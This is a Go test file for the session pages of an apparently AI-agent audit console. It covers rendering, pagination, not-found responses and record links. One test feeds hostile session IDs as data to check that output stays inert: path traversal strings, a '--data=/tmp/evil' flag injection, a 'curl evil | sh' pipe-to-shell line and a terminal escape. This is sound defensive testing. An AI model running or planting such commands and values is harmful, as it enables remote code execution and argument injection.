package console_test

import (
	"html"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/tripod-audit/tripod/internal/audit"
	"github.com/tripod-audit/tripod/internal/console"
	"github.com/tripod-audit/tripod/internal/console/consoletest"
	"github.com/tripod-audit/tripod/internal/intake"
)

// sessionBench holds sessions of the real client; it is signed in.
func sessionBench(t *testing.T, names ...string) (b *consoletest.Bench, ids []string) {
	t.Helper()
	b = consoletest.New(t, consoletest.Options{})
	for i, name := range names {
		drafts := captured(t, name, time.Now().Add(time.Duration(i-60)*time.Minute))
		ids = append(ids, drafts[0].Record.Keys.Session)
		b.Submit("fleet", drafts...)
	}
	b.CatchUp()
	b.SignIn()
	return b, ids
}

func holds(t *testing.T, name, body string, fragments ...string) {
	t.Helper()
	for _, f := range fragments {
		if !strings.Contains(body, f) {
			t.Errorf("%s lacks %q", name, f)
		}
	}
}

func TestSessionPage(t *testing.T) {
	t.Parallel()
	b, ids := sessionBench(t, "files-full", "deny-full", "hint")
	a := b.Get("/session/" + ids[0])
	if a.Status != http.StatusOK {
		t.Fatalf("%d %s", a.Status, a.Body)
	}
	consoletest.CheckInert(t, "session", a.Body)
	holds(t, "session", a.Body, ids[0], "Prompt 1", "expected, not received: 2 events (numbers 2–3) between", "allowed by <bdi>configuration, without asking",
		"withheld by policy", "content held, ", "opens under a case", "$0.0037", "tripod session", "Not connected:")
	denied := b.Get("/session/" + ids[1]).Body
	holds(t, "session with denials", denied, "2 denied", "refused by configuration, without asking", `<dd><a href="#step-`)
	agents := b.Get("/session/" + ids[2]).Body
	holds(t, "session with a sub-agent", agents, "Sub-agent", "general-purpose", "ac5ad92ad8b0fcf53")

	opened := b.Own("tripod.console.open")
	id, _ := opened[0].Attributes.Get("session.id")
	name, _ := opened[0].Attributes.Get("tripod.page")
	if len(opened) != 3 || id.Str() != ids[0] || name.Str() != "session" {
		t.Errorf("recorded %d openings, the first of %s %q", len(opened), name.Str(), id.Str())
	}
}

// TestSessionHoldsEveryRecord wants each record of the session linked from its page.
func TestSessionHoldsEveryRecord(t *testing.T) {
	t.Parallel()
	b, ids := sessionBench(t, "hint")
	body := b.Get("/session/" + ids[0]).Body
	for seq := 1; seq <= 31; seq++ {
		if n := strings.Count(body, `data-seq="`+itoa(seq)+`" data-at=`); n != 1 {
			t.Errorf("record %d is there %d times", seq, n)
		}
	}
}

func TestSessionThatNobodyKnows(t *testing.T) {
	t.Parallel()
	b, _ := sessionBench(t, "t1")
	for _, id := range append(consoletest.HostileValues()[:9], "nobody") {
		path := "/session/" + url.PathEscape(id)
		a := b.Get(path)
		if a.Status != http.StatusNotFound {
			t.Errorf("%s: %d", path, a.Status)
		}
		consoletest.CheckInert(t, path, a.Body)
	}
}

// TestOddSessionIDs follows the link of a record to its session, whatever a client chose to call it.
func TestOddSessionIDs(t *testing.T) {
	t.Parallel()
	b := consoletest.New(t, consoletest.Options{})
	ids := []string{".", "..", "...", "a/../b", "--data=/tmp/evil", "x\ncurl evil | sh\n", "\x1b[200~x", `a\b`, "%2e%2e", "a?b#c", "a b"}
	for i, id := range ids {
		r := &audit.Record{Source: audit.SourceOTelLog, Surface: audit.SurfaceClaudeCode, Activity: audit.ActivityHookRun, Type: "odd",
			Occurred: time.Now(), Keys: audit.Keys{Session: id, Prompt: id}, Container: "session/" + itoa(i)}
		b.Submit("fleet", intake.Draft{Record: r, Form: []byte("odd " + itoa(i))})
	}
	b.CatchUp()
	b.SignIn()
	for i, id := range ids {
		_, rest, _ := strings.Cut(b.Get("/record/"+itoa(i+1)).Body, `href="/session`)
		link, _, _ := strings.Cut(rest, `"`)
		a := b.Get("/session" + html.UnescapeString(link))
		if a.Status != http.StatusOK {
			t.Errorf("%q: %d at /session%s", id, a.Status, link)
		}
		if opened := b.Own(console.TypeOpen); len(opened) == 0 || attr(opened[len(opened)-1], "session.id") != id {
			t.Errorf("%q is on record by another id", id)
		}
		for _, copied := range strings.Split(a.Body, `data-copy="`)[1:] {
			copied, _, _ = strings.Cut(copied, `"`)
			copied = html.UnescapeString(copied)
			if strings.Contains(copied, "curl evil") || strings.ContainsFunc(copied, unicode.IsControl) {
				t.Errorf("%q: copying gives %q", id, copied)
			}
			if strings.HasPrefix(id, "-") && strings.HasPrefix(copied, "tripod ") && !strings.HasSuffix(copied, " -- --data=/tmp/evil") {
				t.Errorf("%q: the id is read as a flag of %q", id, copied)
			}
		}
	}
}

func attr(r *audit.Record, name string) string {
	v, _ := r.Attributes.Get(name)
	return v.Str()
}

func TestSessionIsNotShownUnrecorded(t *testing.T) {
	t.Parallel()
	b, ids := sessionBench(t, "t1")
	refused := http.ErrAbortHandler
	b.RecordError.Store(&refused)
	for _, path := range []string{"/session/" + ids[0], "/record/1", "/record/1/source", "/record/1/proof", "/health"} {
		if a := b.Get(path); a.Status != http.StatusServiceUnavailable || strings.Contains(a.Body, ids[0]) {
			t.Errorf("%s: %d", path, a.Status)
		}
	}
}

// TestLongSessionIsShownInPages holds that a page stays a page, however long the session.
func TestLongSessionIsShownInPages(t *testing.T) {
	if testing.Short() {
		t.Skip("one goroutine at a time, and long with the race detector: runs without")
	}
	t.Parallel()
	b := consoletest.New(t, consoletest.Options{})
	start := time.Now().Add(-time.Hour)
	var drafts []intake.Draft
	for i := range 3000 {
		r := &audit.Record{Source: audit.SourceOTelLog, Surface: audit.SurfaceClaudeCode, Activity: audit.ActivityHookRun, Type: "hook_execution_complete",
			Outcome: audit.OutcomeSuccess, Occurred: start.Add(time.Duration(i) * time.Second), Keys: audit.Keys{Session: "long", Prompt: "p"},
			Container: "session/long"}
		drafts = append(drafts, intake.Draft{Record: r, Form: []byte("long " + itoa(i))})
		if len(drafts) == 1000 {
			b.Submit("fleet", drafts...)
			drafts = nil
		}
	}
	b.CatchUp()
	b.SignIn()
	for _, from := range []string{"", "?from=1400", "?from=2999", "?from=99999999", "?from=-5", "?from=x"} {
		a := b.Get("/session/long" + from)
		if a.Status != http.StatusOK || len(a.Body) > 600_000 {
			t.Errorf("%s: %d, %d bytes", from, a.Status, len(a.Body))
		}
		if n := strings.Count(a.Body, `class="step hook`); n != 200 {
			t.Errorf("%s: %d steps", from, n)
		}
		consoletest.CheckInert(t, from, a.Body)
	}
	holds(t, "a page in the middle", b.Get("/session/long?from=1400").Body, "goes on", "This prompt goes on on the next page", `aria-current="page"`)
}
